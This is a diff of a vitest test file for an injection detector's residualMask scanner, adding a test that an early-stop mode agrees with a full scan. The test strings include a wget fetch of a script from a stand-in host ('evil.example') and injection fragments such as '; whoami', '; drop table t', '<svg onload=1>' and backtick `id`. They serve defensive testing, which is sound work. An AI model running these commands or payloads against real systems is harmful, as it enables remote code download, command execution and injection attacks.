@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest'
-import { M } from '../../src/detect/charmask.js'
+import { M, PLAIN_BITS } from '../../src/detect/charmask.js'
 import { createDetector } from '../../src/detect/index.js'
-import { residualMask, STARTS_WITH_COMMAND } from '../../src/detect/scan.js'
+import { FIRST_KEPT, residualMask, STARTS_WITH_COMMAND } from '../../src/detect/scan.js'
 
 describe('residualMask: benign triggers are dismissed locally', () => {
   it.each([
@@ -109,6 +109,23 @@ describe('residualMask: benign triggers are dismissed locally', () => {
     ['wget (http://evil.example/x.sh)', M.SLASH],
   ] as [string, number][])('keeps %s', (s, bit) => {
     expect(residualMask(s) & bit).toBe(bit)
+  })
+
+  it('stops at the first trigger kept when asked, with the same verdict', () => {
+    const strings = [
+      'x (timeout 5) and ; drop table t',
+      'Tom & Jerry; whoami & b',
+      "it's fine <svg onload=1> and `id`",
+      'see https://example.org/a?b=1 then <b>',
+      'plain words only, nothing else',
+      "it's 5 o'clock; see you :) <3",
+    ]
+    for (const s of strings) {
+      const all = residualMask(s) & ~PLAIN_BITS
+      const first = residualMask(s, 0, s.length, false, FIRST_KEPT) & ~PLAIN_BITS
+      expect(first !== 0, s).toBe(all !== 0)
+      expect(first & ~all, s).toBe(0)
+    }
   })
 
   it('pairs quotation marks: a closing mark needs its opening', () => {
